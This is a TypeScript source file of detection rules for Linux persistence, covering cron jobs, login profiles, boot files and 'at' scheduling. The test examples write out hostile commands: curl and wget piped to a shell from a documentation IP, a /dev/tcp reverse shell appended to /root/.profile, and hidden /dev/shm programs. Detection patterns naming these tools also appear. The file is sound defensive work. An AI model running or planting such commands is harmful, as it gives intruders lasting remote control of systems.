import type { CommandLine } from "#alert/command-line.ts";
import type { Facts } from "#alert/facts.ts";
import type { Indicator } from "../../indicator.ts";
import { calls, operands } from "../execution/calls.ts";
import { inContainer, onHost, opened, ran } from "../execution/examples.ts";
import { writesFile } from "./written-files.ts";

/** Start files in which a program of an intruder's stands: what is written says it, not only where. */

const persistence = { tactic: "persistence", platforms: ["Linux"], families: ["syscall", "k8s_audit"] } as const;

const written = { "evt.arg.flags": "O_CREAT|O_WRONLY", ...inContainer };
const quoteCharsMax = 160;

/** What no ordinary job or profile holds: code that is fetched, decoded, connected or kept where everybody may write. */
const payload =
  /(?:curl|wget)\s[^\n]{0,200}?\|\s{0,4}(?:\/bin\/)?(?:ba|da|z)?sh\b|\/dev\/tcp\/|\b(?:ba|z)?sh -i\b|base64 (?:-d|--decode)|\bn(?:c|cat)\s[^|;]{0,80}-e\s|(?:^|[\s;&'"=])(?:\/tmp|\/dev\/shm|\/var\/tmp)\/\.?[\w.-]{1,60}/;

/** Programs whose words are what is written. */
const printers = new Set(["echo", "printf"]);

const cronPlace = /(?:^|\/)(?:etc\/(?:cron(?:tab$|\.)|crontabs?(?:\/|$)|anacrontab$)|var\/spool\/cron(?:\/|$))/;
const loginPlace =
  /(?:^|\/)(?:etc\/(?:profile$|profile\.d\/|bash\.bashrc$|bashrc$|zsh\/|environment$|update-motd\.d\/)|(?:\.bashrc|\.bash_profile|\.bash_login|\.profile|\.zshrc|\.zprofile|\.zshenv|\.xprofile)$|\.ssh\/rc$)/;
const bootPlace =
  /(?:^|\/)(?:etc\/(?:rc\.local$|rc\.d\/|init\.d\/|systemd\/|local\.d\/)|(?:usr\/)?lib\/systemd\/system\/|\.config\/systemd\/user\/|\.config\/autostart\/)/;

const writesCron = writesFile(cronPlace);
const writesLogin = writesFile(loginPlace);
const writesBoot = writesFile(bootPlace);
const runsCrontab = calls(new Set(["crontab"]), (call) => call.args.every(({ value }) => value !== "-l"));

export const cronJobRunsPayload: Indicator = {
  ...persistence,
  id: "cron-job-runs-payload",
  behaviour: "schedules a job that fetches code, calls back or runs a program from a folder for temporary files",
  meaning: "However often the process is killed, cron brings it back within minutes.",
  technique: "T1053.003",
  alsoTechniques: ["T1105"],
  severity: "high",
  certainty: "certain",
  source: "https://attack.mitre.org/techniques/T1053/003/",
  keywords: ["cron"],
  match: (facts) => {
    const place = writesCron(facts) ?? runsCrontab(facts);
    return place === null ? null : payloadOf(facts);
  },
  examples: {
    found: [
      ran("sh -c echo '* * * * * curl -s http://203.0.113.9/l.jpg | bash -s' >> /mnt/etc/crontabs/root", inContainer),
      ran("sh -c (crontab -l; echo '*/5 * * * * /dev/shm/.x/run') | crontab -"),
      opened(
        "/etc/cron.d/upd",
        "sh -c echo '* * * * * root wget -qO- http://203.0.113.9/x|sh'>/etc/cron.d/upd",
        written,
      ),
    ],
    ignored: [
      ran("sh -c echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup", onHost),
      ran("sh -c crontab -l | grep curl"),
      ran("crontab /tmp/jobs"),
      opened("/etc/cron.d/php", "dpkg --unpack php.deb", { "evt.arg.flags": "O_CREAT|O_WRONLY", ...onHost }),
    ],
  },
};

export const startFileRunsPayload: Indicator = {
  ...persistence,
  id: "start-file-runs-payload",
  behaviour: "puts a command that fetches code, calls back or runs a hidden program into a file that runs at log-in",
  meaning: "The next person who logs in starts it, with that person's rights.",
  technique: "T1546.004",
  severity: "high",
  certainty: "certain",
  source: "https://attack.mitre.org/techniques/T1546/004/",
  keywords: ["profile", "bashrc", "zshrc", "ssh/rc", "zsh", "environment", "bash_login", "motd"],
  match: (facts) => (writesLogin(facts) === null ? null : payloadOf(facts)),
  examples: {
    found: [
      ran("sh -c echo 'curl -s http://203.0.113.9/a | sh' >> ~/.bashrc"),
      ran("bash -c echo 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1 &' >> /root/.profile", inContainer),
    ],
    ignored: [
      ran("sh -c echo 'export PATH=$PATH:/opt/go/bin' >> /root/.bashrc"),
      ran("sh -c cat /root/.bashrc"),
      ran("cp /etc/skel/.bashrc /home/mira/.bashrc"),
    ],
  },
};

export const bootFileRunsPayload: Indicator = {
  ...persistence,
  id: "boot-file-runs-payload",
  behaviour: "puts a command that fetches code, calls back or runs a hidden program into a file that runs at boot",
  meaning: "The program is back, as root, after every restart.",
  technique: "T1543.002",
  alsoTechniques: ["T1037.004"],
  severity: "high",
  certainty: "certain",
  source: "https://attack.mitre.org/techniques/T1543/002/",
  keywords: ["systemd", "rc.local", "init.d", "rc.d", "local.d", "autostart"],
  match: (facts) => (writesBoot(facts) === null ? null : payloadOf(facts)),
  examples: {
    found: [
      ran("sh -c printf '[Service]\\nExecStart=/dev/shm/.k' > /etc/systemd/system/k.service"),
      ran("sh -c echo 'wget -qO- http://203.0.113.9/x | sh' >> /etc/rc.local", onHost),
    ],
    ignored: [
      ran("sh -c echo 'ExecStart=/usr/bin/node app.js' > /etc/systemd/system/app.service"),
      ran("systemctl restart k.service"),
      ran("sh -c curl -fsSL https://example.com/i.sh | sh; cp /tmp/a.service /etc/systemd/system/a.service"),
    ],
  },
};

export const schedulesWithAt: Indicator = {
  ...persistence,
  id: "schedules-with-at",
  behaviour: "leaves a command to be run later (at, batch)",
  meaning: "It runs when nobody connects it any more with whoever left it.",
  technique: "T1053.002",
  severity: "medium",
  certainty: "weak",
  source: "https://attack.mitre.org/techniques/T1053/002/",
  keywords: ["at ", "batch"],
  match: calls(
    new Set(["at", "batch"]),
    (call) => call.program === "batch" || (operands(call).length > 0 && call.args[0]?.value !== "-l"),
  ),
  examples: {
    found: [ran("at now + 5 minutes"), ran("batch -f /tmp/x", onHost), ran("sh -c echo x | at midnight")],
    ignored: [ran("at -l"), ran("systemd-run --scope make"), ran("cat at.txt")],
  },
};

/** The telling piece of what a command prints into the file. */
function payloadOf({ process, kubernetes }: Facts): string | null {
  return payloadIn(process.command) ?? payloadIn(kubernetes.commandLine);
}

function payloadIn({ commands, text }: CommandLine): string | null {
  const printed = commands.filter(({ program }) => printers.has(program)).flatMap(({ words }) => words);
  for (const { value, start, end } of printed) {
    const found = payload.exec(value.length > 8192 ? value.slice(0, 8192) : value)?.[0].trim();
    if (found !== undefined) return (text.includes(found) ? found : text.slice(start, end)).slice(0, quoteCharsMax);
  }
  return null;
}
